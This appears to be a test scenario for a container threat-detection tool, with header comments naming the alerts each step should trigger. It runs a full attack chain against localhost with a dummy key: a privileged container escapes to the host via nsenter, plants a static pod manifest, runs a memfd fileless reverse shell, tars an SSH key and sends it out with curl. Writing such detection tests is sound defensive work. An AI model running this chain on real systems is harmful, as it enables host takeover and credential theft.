# about: a pod with too many rights, a shell in it, nsenter into the host, a static pod, a payload that never touches disk, C2, keys, an archive, and the archive sent out
# expect: privileged_container medium, container_escape critical, fileless_exec high, reverse_shell critical, persistence medium, credential_access medium, exfiltration medium
# incidents: 1
# where: container
# needs: docker python3 curl tar
mkdir -p /etc/kubernetes/manifests /root/.ssh
echo secret >/root/.ssh/id_ed25519
# The other end: types into the payload's shell, and takes what is sent.
peer 6443 tcp 'id' 'cp /root/.ssh/id_ed25519 /tmp/k' 'cat /root/.ssh/id_ed25519 >/dev/null' \
    'cd /etc/kubernetes/manifests && ls' 'tar -czf /tmp/loot.tgz /root/.ssh' \
    'curl -s -m 2 --data-binary @/tmp/loot.tgz http://127.0.0.1:6444/' 'sleep 1' 'exit'
(cd /tmp && exec python3 -m http.server 6444 --bind 127.0.0.1) >/dev/null 2>&1 &
SERVER=$!
cat >payload.py <<'END'
import os, socket
memory = os.memfd_create("agent")
os.write(memory, open("/bin/sh", "rb").read())
c2 = socket.create_connection(("127.0.0.1", 6443))
for fd in 0, 1, 2:
    os.dup2(c2.fileno(), fd)
os.execv(f"/proc/self/fd/{memory}", ["sh"])
END
docker run --rm --name debugger --label io.kubernetes.pod.name=debugger --label io.kubernetes.pod.namespace=default \
    --network host --pid=host --cap-add SYS_ADMIN --cap-add SYS_PTRACE --cap-add SYS_CHROOT \
    --security-opt seccomp=unconfined --security-opt apparmor=unconfined tools sh -c "
        id; hostname
        nsenter -t 1 -m -u -i -n -p sh -c '
            echo \"kind: Pod\" >/etc/kubernetes/manifests/agent.yaml
            python3 $PWD/payload.py
        '"
done_typing
kill $SERVER
